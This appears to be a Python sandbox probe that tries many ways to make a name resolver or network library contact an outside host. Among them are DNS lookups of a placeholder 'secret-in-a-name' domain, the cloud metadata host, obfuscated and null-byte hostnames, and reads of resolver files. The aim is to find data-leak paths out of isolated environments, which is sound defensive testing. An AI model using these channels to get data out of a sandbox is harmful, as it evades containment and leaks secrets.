"""Names: every way to make a resolver ask somebody, which is how data leaks out of places that have no connections."""

import asyncio
import socket

from _attempts import attempt, leave, must

MADE_UP = "secret-in-a-name.example.com"


def in_loop(name):
    async def main():
        return await asyncio.get_running_loop().getaddrinfo(name, 80)

    return asyncio.run(main())


for name in ("localhost", MADE_UP, "127.0.0.1", "::1", "ip6-localhost", "metadata.google.internal", "0x7f.1", "a\0.example.com"):
    attempt(f"getaddrinfo {name!r}", socket.getaddrinfo, name, 80)
    attempt(f"gethostbyname {name!r}", lambda: must(socket.gethostbyname(name) != name))
    attempt(f"gethostbyname_ex {name!r}", lambda: must(socket.gethostbyname_ex(name)[2] != [name]))
    attempt(f"in the loop {name!r}", in_loop, name)
attempt("reverse", lambda: socket.gethostbyaddr("127.0.0.1"))
attempt("getnameinfo", lambda: must(socket.getnameinfo(("127.0.0.1", 80), 0) != ("127.0.0.1", "80")))
attempt("getfqdn", lambda: must(socket.getfqdn("localhost") != "localhost"))
attempt("resolver's settings", lambda: open("/etc/resolv.conf").read())
attempt("hosts", lambda: open("/etc/hosts").read())
for module, use in {
    "http.client": lambda m: m.HTTPConnection(MADE_UP, timeout=5).request("GET", "/"),
    "urllib.request": lambda m: m.urlopen("http://" + MADE_UP, timeout=5),
    "ftplib": lambda m: m.FTP(MADE_UP, timeout=5),
    "smtplib": lambda m: m.SMTP(MADE_UP, timeout=5),
    "poplib": lambda m: m.POP3(MADE_UP, timeout=5),
    "imaplib": lambda m: m.IMAP4(MADE_UP, timeout=5),
    "xmlrpc.client": lambda m: m.ServerProxy("http://" + MADE_UP).x(),
    "logging.handlers": lambda m: m.SysLogHandler(address=(MADE_UP, 514)),
}.items():
    attempt(module, lambda: use(__import__(module, fromlist=["x"])))
leave()
